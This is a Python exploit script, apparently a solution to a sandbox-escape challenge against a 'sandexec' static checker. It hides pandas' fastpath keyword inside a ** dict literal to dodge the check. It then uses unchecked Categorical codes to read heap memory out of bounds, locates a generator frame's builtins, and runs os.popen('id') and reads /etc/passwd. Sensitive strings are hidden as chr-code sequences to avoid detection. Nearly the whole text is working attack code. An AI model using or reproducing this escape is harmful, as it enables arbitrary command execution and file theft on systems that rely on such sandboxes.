# source: sandexec README, "The static check", (pd.Categorical fastpath: codes never range-checked read the heap around the categories); CPython 3.11 PyGenObject (inline _PyInterpreterFrame: f_func, f_globals, f_builtins)
# family: keyword refused by name hidden as a literal key of a ** dict display (**{"fastpath": True}; fastpath= and **opts are refused) -> unchecked int16 codes
# goal: int64-category OOB reads find an object-category buffer (function addresses from repr()) and a generator's inline frame (f_func == repr address); an object-category read of its f_builtins slot -> builtins -> os.popen('id'), /etc/passwd
import numpy as np
import pandas as pd


def w(*codes):
    return "".join(map(chr, codes))


def addr_of(f):
    return int(repr(f).split()[-1].rstrip(">"), 16)


funcs = []
for i in range(600):
    def fn(i=i):
        return i
    funcs.append(fn)
objarr = np.empty(600, dtype=object)
for i in range(600):
    objarr[i] = funcs[i]
objcats = pd.Index(objarr, dtype=object, copy=False)
objarr[0] = funcs[599]
objarr[599] = funcs[0]
shared = objcats[0] is funcs[599]
first = 599 if shared else 0
dto = pd.CategoricalDtype(objcats)
intcats = pd.Index(np.arange(600, dtype=np.int64) + 10 ** 15)
dti = pd.CategoricalDtype(intcats)


def gen():
    v0 = 0
    v1 = 1
    v2 = 2
    v3 = 3
    v4 = 4
    v5 = 5
    v6 = 6
    v7 = 7
    v8 = 8
    v9 = 9
    v10 = 10
    v11 = 11
    v12 = 12
    v13 = 13
    v14 = 14
    v15 = 15
    v16 = 16
    v17 = 17
    v18 = 18
    v19 = 19
    v20 = 20
    v21 = 21
    v22 = 22
    v23 = 23
    v24 = 24
    v25 = 25
    v26 = 26
    v27 = 27
    v28 = 28
    v29 = 29
    v30 = 30
    v31 = 31
    v32 = 32
    v33 = 33
    v34 = 34
    v35 = 35
    v36 = 36
    v37 = 37
    v38 = 38
    v39 = 39
    v40 = 40
    v41 = 41
    v42 = 42
    v43 = 43
    v44 = 44
    v45 = 45
    v46 = 46
    v47 = 47
    v48 = 48
    v49 = 49
    v50 = 50
    v51 = 51
    v52 = 52
    v53 = 53
    v54 = 54
    v55 = 55
    v56 = 56
    v57 = 57
    v58 = 58
    v59 = 59
    v60 = 60
    v61 = 61
    v62 = 62
    v63 = 63
    v64 = 64
    v65 = 65
    v66 = 66
    v67 = 67
    v68 = 68
    v69 = 69
    v70 = 70
    v71 = 71
    v72 = 72
    v73 = 73
    v74 = 74
    v75 = 75
    v76 = 76
    v77 = 77
    v78 = 78
    v79 = 79
    v80 = 80
    v81 = 81
    v82 = 82
    v83 = 83
    v84 = 84
    v85 = 85
    v86 = 86
    v87 = 87
    v88 = 88
    v89 = 89
    v90 = 90
    v91 = 91
    v92 = 92
    v93 = 93
    v94 = 94
    v95 = 95
    v96 = 96
    v97 = 97
    v98 = 98
    v99 = 99
    v100 = 100
    v101 = 101
    v102 = 102
    v103 = 103
    v104 = 104
    v105 = 105
    v106 = 106
    v107 = 107
    v108 = 108
    v109 = 109
    v110 = 110
    v111 = 111
    v112 = 112
    v113 = 113
    v114 = 114
    v115 = 115
    v116 = 116
    v117 = 117
    v118 = 118
    v119 = 119
    yield v0


gens = [gen() for _ in range(400)]
gaddr = addr_of(gen)
fa = [addr_of(f) for f in funcs]


def readi(codes):
    c = pd.Categorical(np.array(codes, dtype=np.int16), dtype=dti, **{"fastpath": True})
    return np.asarray(c).tolist()


lo = readi(list(range(-32700, -2)))
hi = readi(list(range(600, 32700)))
objpos = [k - 32700 for k in range(len(lo) - 1) if lo[k] == fa[first] and lo[k + 1] == fa[1]]
framepos = [600 + k for k in range(len(hi)) if hi[k] == gaddr] + [k - 32700 for k in range(len(lo)) if lo[k] == gaddr]
print(shared, objpos, framepos[:5])
j = objpos[-1]
k = framepos[0]
code = k + 2 - j
c = pd.Categorical(np.array([code], dtype=np.int16), dtype=dto, **{"fastpath": True})
bi = np.asarray(c)[0]
print(type(bi), len(bi))
u = chr(95) * 2
imp = bi[u + "import" + u]
ga = bi[w(103, 101, 116, 97, 116, 116, 114)]
osm = imp(w(111, 115))
print(osm)
print(ga(osm, w(112, 111, 112, 101, 110))(w(105, 100)).read())
print(bi[w(111, 112, 101, 110)](w(47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100)).read()[:120])
